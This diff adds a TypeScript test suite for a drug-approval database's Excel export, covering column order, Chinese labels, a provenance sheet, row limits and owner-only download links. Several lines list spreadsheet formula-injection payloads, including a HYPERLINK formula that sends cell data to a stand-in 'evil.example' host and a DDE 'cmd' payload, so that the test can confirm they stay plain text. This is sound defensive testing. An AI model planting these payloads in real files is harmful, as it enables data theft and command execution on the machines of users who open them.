@@ -1,0 +1,239 @@
+import { existsSync, readdirSync, statSync } from 'node:fs'
+import { join } from 'node:path'
+import fc from 'fast-check'
+import { afterEach, describe, expect, it } from 'vitest'
+import type { ExportAnswer } from '../../domain/contract.ts'
+import { drugus } from '../../domain/databases/drugus.ts'
+import { buildWorkbook } from '../../server/export/workbook.ts'
+import { Browser, codeOf, errorOf, EXPORT, sampleRow, testGateway, type Answer, type TestGateway } from './harness.ts'
+import { readWorkbook } from './xlsx.ts'
+
+let gateway: TestGateway
+afterEach(() => gateway?.close())
+
+const HOUR = 3_600_000
+
+const download = async (browser: Browser, request: unknown) => {
+  const made = (await browser.post('/api/databases/drugus/export', request)) as Answer<ExportAnswer>
+  if (made.status !== 200) throw new Error(made.text)
+  const response = await gateway.app.request(`http://materia.test${made.body.link}`, {
+    headers: { cookie: [...browser.cookies].map((pair) => pair.join('=')).join('; ') },
+  })
+  return { made: made.body, response, bytes: new Uint8Array(await response.arrayBuffer()) }
+}
+
+const texts = (sheet: ReturnType<typeof readWorkbook>['sheets'][number] | undefined) =>
+  sheet?.rows.map((row) => row.map((cell) => cell?.value))
+
+describe('export', () => {
+  it('DB-07 BEY-03 equals the screen: columns in their order, labels and terms in English, numbers as numbers', async () => {
+    gateway = await testGateway()
+    const browser = new Browser(gateway)
+    await browser.login(gateway)
+    const { made, response, bytes } = await download(browser, { ...EXPORT, columns: [...EXPORT.columns].reverse() })
+    expect(made).toMatchObject({ fileName: 'US Approved 20261121-0300.xlsx', rows: 3, bytes: bytes.length })
+    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
+    expect(response.headers.get('content-disposition')).toBe(
+      `attachment; filename="materia.xlsx"; filename*=UTF-8''US%20Approved%2020261121-0300.xlsx`,
+    )
+    expect(response.headers.get('cache-control')).toBe('private, no-store')
+    const { sheets } = readWorkbook(bytes)
+    expect(sheets.map(({ name }) => name)).toStrictEqual(['Records', 'Provenance'])
+    const [header, first] = texts(sheets[0]) ?? []
+    expect(header).toHaveLength(8)
+    expect(header?.slice(-3)).toStrictEqual(['Active ingredient', 'Brand name', 'Application No.'])
+    expect(first?.slice(0, 3)).toStrictEqual(['1', '2014-09-04', 'Yes'])
+    expect(first?.slice(-3)).toStrictEqual(['Pembrolizumab', 'KEYTRUDA', 'BLA125511'])
+    expect(sheets[0]?.rows).toHaveLength(4)
+    // A number is a number: no type, or the explicit one.
+    expect([undefined, 'n']).toContain(sheets[0]?.rows[1]?.[0]?.type)
+  })
+
+  it('LANG-03 BEY-11 in Chinese: labels, terms, options and file name', async () => {
+    gateway = await testGateway()
+    const browser = new Browser(gateway)
+    await browser.login(gateway)
+    const { made, bytes } = await download(browser, { ...EXPORT, language: 'cn' })
+    const { sheets } = readWorkbook(bytes)
+    expect(sheets.map(({ name }) => name)).toStrictEqual(['检索结果', '数据来源'])
+    const [header, first] = texts(sheets[0]) ?? []
+    for (const label of header ?? []) expect(label).toMatch(/\p{Script=Han}/u)
+    expect(first?.[2]).toBe('帕博利珠单抗')
+    expect(first?.[4]).toMatch(/^\p{Script=Han}+；\p{Script=Han}+$/u)
+    expect(first?.[5]).toBe('是')
+    expect(made.fileName).toMatch(/^\p{Script=Han}+.* 20261121-0300\.xlsx$/u)
+  })
+
+  it('BEY-03 DB-14 the second sheet says what it is and where it comes from', async () => {
+    gateway = await testGateway({ env: { PUBLIC_URL: 'https://materia.example' } })
+    const browser = new Browser(gateway)
+    await browser.login(gateway)
+    const { bytes } = await download(browser, {
+      ...EXPORT,
+      conditions: [
+        { field: 'ingredient', op: 'is', values: ['Pembrolizumab', 'Nivolumab'] },
+        { field: 'applicationType', op: 'not', values: ['anda'] },
+        { field: 'approvalDate', op: 'range', values: ['2014-01-01', ''] },
+        { field: 'any', op: 'has', values: ['cancer', 'lung'], join: 'and' },
+      ],
+      sort: [{ field: 'approvalDate', direction: 'desc' }],
+      sentence: 'Ingredient is Pembrolizumab or Nivolumab',
+      address: '/drugus?ingredient=is:Pembrolizumab',
+    })
+    const rows = texts(readWorkbook(bytes).sheets[1]) ?? []
+    const values = (item: string) => rows.filter(([name]) => name === item).map(([, value]) => value)
+    expect(values('Database')).toStrictEqual(['US Approved'])
+    expect(values('Query')).toStrictEqual(['Ingredient is Pembrolizumab or Nivolumab'])
+    expect(values('Filter')).toHaveLength(4)
+    expect(values('Filter')[0]).toBe('Active ingredient is Pembrolizumab or Nivolumab')
+    expect(values('Filter')[1]).toMatch(/is not ANDA/)
+    expect(values('Filter')[2]).toMatch(/between 2014-01-01 – …$/)
+    expect(values('Filter')[3]).toBe('Any field contains cancer and lung')
+    expect(values('Sort')[0]).toMatch(/\(descending\)$/)
+    expect(values('Address')).toStrictEqual(['https://materia.example/drugus?ingredient=is:Pembrolizumab'])
+    expect(values('Data as of')).toStrictEqual(['2026-11-01'])
+    expect(values('Publishers')).toStrictEqual(['US Food and Drug Administration'])
+    expect(values('Records found')).toStrictEqual(['3'])
+    expect(values('Records in this file')).toStrictEqual(['3'])
+    expect(values('Complete')).toStrictEqual(['Yes'])
+    expect(values('Sample data')[0]).toMatch(/^Yes: generated/)
+    expect(values('Exported at')).toStrictEqual(['2026-11-21T03:00:00.000Z'])
+    expect(values('Exported by')).toStrictEqual(['jane@acme-pharma.com'])
+  })
+
+  it('DB-07 BEY-03 a result over the limit is refused with its figures, cut only when agreed, and says so', async () => {
+    gateway = await testGateway({ rows: Array.from({ length: 1001 }, (_, n) => sampleRow(n)) })
+    const browser = new Browser(gateway)
+    await browser.login(gateway)
+    expect((await browser.post('/api/databases/drugus/export/validate', EXPORT)).body).toStrictEqual({
+      allowed: true,
+      total: 1001,
+      limit: 1000,
+      rows: 1000,
+    })
+    const refused = await browser.post('/api/databases/drugus/export', EXPORT)
+    expect([refused.status, errorOf(refused).code, errorOf(refused).params]).toStrictEqual([
+      409,
+      'export.over_limit',
+      { total: 1001, limit: 1000 },
+    ])
+    const { made, bytes } = await download(browser, { ...EXPORT, truncate: true })
+    expect(made.rows).toBe(1000)
+    const { sheets } = readWorkbook(bytes)
+    expect(sheets[0]?.rows).toHaveLength(1001)
+    expect(texts(sheets[1])).toContainEqual(['Complete', 'No: the first 1000 of 1001 records, as agreed before the export'])
+  })
+
+  it('DB-07 a workbook is its owner’s alone, for an hour', async () => {
+    gateway = await testGateway()
+    const owner = new Browser(gateway)
+    await owner.login(gateway)
+    const { made } = await download(owner, EXPORT)
+    expect(made.link).toMatch(/^\/api\/exports\/[\w-]{32}$/)
+    const other = new Browser(gateway)
+    await other.login(gateway, 'eve@evil.com')
+    expect(codeOf(await other.get(made.link))).toBe('export.not_found')
+    expect(codeOf(await new Browser(gateway).get(made.link))).toBe('auth.required')
+    const folder = join(gateway.folder, 'exports')
+    const [file = ''] = readdirSync(folder)
+    expect(statSync(join(folder, file)).mode & 0o077).toBe(0)
+    gateway.clock.pass(HOUR)
+    expect(codeOf(await owner.get(made.link))).toBe('export.not_found')
+  })
+
+  it('DB-07 an over file is removed, a living one kept', async () => {
+    gateway = await testGateway()
+    const browser = new Browser(gateway)
+    await browser.login(gateway)
+    const { createExports } = await import('../../server/export/exports.ts')
+    const folder = join(gateway.folder, 'exports')
+    const exports = createExports({
+      folder,
+      db: gateway.state.db,
+      catalogue: gateway.catalogue.catalogue,
+      now: gateway.clock.now,
+      publicUrl: undefined,
+    })
+    const first = await download(browser, EXPORT)
+    gateway.clock.pass(HOUR / 2)
+    const second = await download(browser, EXPORT)
+    gateway.clock.pass(HOUR / 2)
+    await exports.sweep()
+    const idOf = (link: string) => join(folder, `${link.split('/').at(-1)}.xlsx`)
+    expect([existsSync(idOf(first.made.link)), existsSync(idOf(second.made.link))]).toStrictEqual([false, true])
+  })
+})
+
+const INPUT = { definition: drugus, total: 1, asOf: null, publishers: [], exportedAt: new Date(0), exportedBy: 'a@b.co' }
+const oneCell = async (value: string) => {
+  const bytes = await buildWorkbook({
+    ...INPUT,
+    rows: [sampleRow(1, { reviewPriority: value })],
+    request: { ...EXPORT, language: 'en', conditions: [], sort: [], columns: ['reviewPriority'] },
+  })
+  return readWorkbook(bytes).sheets[0]?.rows[1]?.[0]
+}
+
+describe('workbook', () => {
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    "=cmd|'/c calc'!A0",
+    '＝1+1',
+  ])('DB-07 %j never becomes a formula', async (value) => {
+    const cell = await oneCell(value)
+    expect(cell).toMatchObject({ formula: false })
+    expect(['s', 'inlineStr', 'str']).toContain(cell?.type)
+    // XML reads a carriage return as a line feed.
+    expect(cell?.value.replace('\r', '\n')).toBe(`'${value.replace('\r', '\n')}`)
+  })
+
+  it('DB-07 whatever a publisher writes, the workbook can be read and holds it as text', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.oneof(
+          fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
+          fc.string({ unit: 'grapheme', minLength: 1 }),
+          fc.constantFrom('<b>&amp;]]>', '\u0000x', 'x\ud800y', '\ufffe', '  x  ', '_x0041_', '__x0041__', 'constructor', '__proto__', 'toString'),
+        ),
+        async (value) => {
+          const cell = await oneCell(value)
+          const kept = value
+            .replaceAll(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '')
+            .toWellFormed()
+            .replaceAll('\ufffd', '')
+          if (!kept) return
+          expect(cell?.formula).toBe(false)
+          const read = (cell?.value ?? '').replaceAll('\r', '\n')
+          expect([kept, `'${kept}`].map((text) => text.replaceAll('\r\n', '\n').replaceAll('\r', '\n').replaceAll('\ufffd', ''))).toContain(
+            read.replaceAll('\ufffd', ''),
+          )
+        },
+      ),
+      { numRuns: 150 },
+    )
+  })
+
+  it('BEY-03 a text longer than a cell ends with … and is counted', async () => {
+    const long = `${'x'.repeat(32_765)}😀😀😀`
+    const bytes = await buildWorkbook({
+      ...INPUT,
+      rows: [sampleRow(1, { reviewPriority: long })],
+      request: { ...EXPORT, language: 'en', conditions: [], sort: [], columns: ['reviewPriority'] },
+    })
+    const { sheets } = readWorkbook(bytes)
+    const value = sheets[0]?.rows[1]?.[0]?.value ?? ''
+    expect([value.length <= 32_767, value.endsWith('x…')]).toStrictEqual([true, true])
+    expect(texts(sheets[1])?.at(-1)?.[1]).toMatch(/^1 cells are longer/)
+  })
+
+  it('DB-11 an empty result is a workbook with headers', async () => {
+    const bytes = await buildWorkbook({ ...INPUT, total: 0, rows: [], request: { ...EXPORT, language: 'cn', conditions: [], sort: [] } })
+    expect(readWorkbook(bytes).sheets[0]?.rows).toHaveLength(1)
+  })
+})
